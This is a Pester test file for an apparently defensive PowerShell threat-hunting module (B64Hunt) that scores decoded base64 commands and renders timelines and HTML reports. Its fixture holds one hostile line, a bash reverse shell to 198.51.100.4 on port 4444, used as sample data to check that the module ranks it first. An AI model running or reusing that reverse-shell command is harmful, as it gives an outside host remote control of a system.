BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    # Other files pin the notebook through $PSDefaultParameterValues; these tests are about the cmdlets' own default.
    $PSDefaultParameterValues.Remove('Measure-B64Score:Model')
    $PSDefaultParameterValues.Remove('Show-B64Timeline:Model')
    $script:T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
    $script:Events = @(
        [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'; Computer = 'web-03'; TimeGenerated = $T0 }
        [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'uptime'; Computer = 'web-01'; TimeGenerated = $T0.AddHours(1) }
        [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'df -h'; Computer = 'web-02'; TimeGenerated = $T0.AddHours(2) }
    ) | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc
    $script:Alert = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web-03'; AlertName = 'Possible reverse shell'; Severity = 'High'; TimeGenerated = $T0.AddMinutes(12) }
}

Describe 'Measure-B64Score default model' {
    It 'ranks the reverse shell first and says why, in ScoreReasons' {
        $scores = $Events | Measure-B64Score -Alert $Alert
        $scores[0].DecodedCommand | Should -BeLike 'bash -i*'
        $scores[0].Model | Should -Be 'Default'
        $scores[0].ScoreReasons | Should -Contain '+5 Reverse shell (T1059.004, T1095)'
        # 3 (High) x 0.9 (12 of 60 min) x (1 - 2 h of a one-day floor covered) = 2.475
        ($scores[0].ScoreReasons -join "`n") | Should -Match "\+2\.48 High alert 'Possible reverse shell' on web-03, 12 min after"
        $scores[0].BehaviourScore | Should -BeGreaterThan 5
    }

    It 'shows ScoreReasons in the list view' {
        $text = $Events | Measure-B64Score -Alert $Alert | Select-Object -First 1 | Format-List | Out-String -Width 300
        $text | Should -Match 'ScoreReasons\s+:\s+\+1 rarity'
        $text | Should -Match 'Reverse shell \(T1059\.004'
        $text | Should -Match 'BehaviourScore\s+:'
    }

    It 'reproduces the notebook with -Model Notebook' {
        $notebook = $Events | Measure-B64Score -Alert $Alert -Model Notebook
        $shell = $notebook | Where-Object DecodedCommand -like 'bash -i*'
        $shell.TotalScore | Should -Be 4    # FreqScore 1 + AlertScore 3
        $shell.BehaviourScore | Should -Be 0
        $shell.Model | Should -Be 'Notebook'
    }

    It 'refuses -NoAlertWindow without -Model Notebook' {
        { $Events | Measure-B64Score -NoAlertWindow -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidAlertWindow*'
    }
}

Describe 'Show-B64Timeline with the default model' {
    It 'writes ScoreReasons, top N of M and -Top into the HTML report' {
        $file = Join-Path $TestDrive 'ranking.html'
        $Events | Show-B64Timeline -Alert $Alert -Top 2 -OutFile $file | Out-Null
        $html = Get-Content $file -Raw
        $html | Should -Match 'top 2 of 3 commands \(2 of 3 executions\)'
        $html | Should -Match 'Show-B64Timeline -Top 2'
        $html | Should -Match '<b>Why \(ScoreReasons\)</b>'
        $html | Should -Match '<li>\+5 Reverse shell \(T1059\.004, T1095\)</li>'
        $html | Should -Match 'score 10 or more'
    }

    It 'lists the reasons under each command in the console' {
        $lines = @($Events | Show-B64Timeline -Alert $Alert -NoColor -Width 60)
        $lines[0] | Should -Match '^B64Hunt timeline: 3 command\(s\) \(3 execution\(s\)\) on 3 host\(s\)'
        $lines | Where-Object { $_ -match '^\s+why: .*Reverse shell' } | Should -HaveCount 1
    }
}
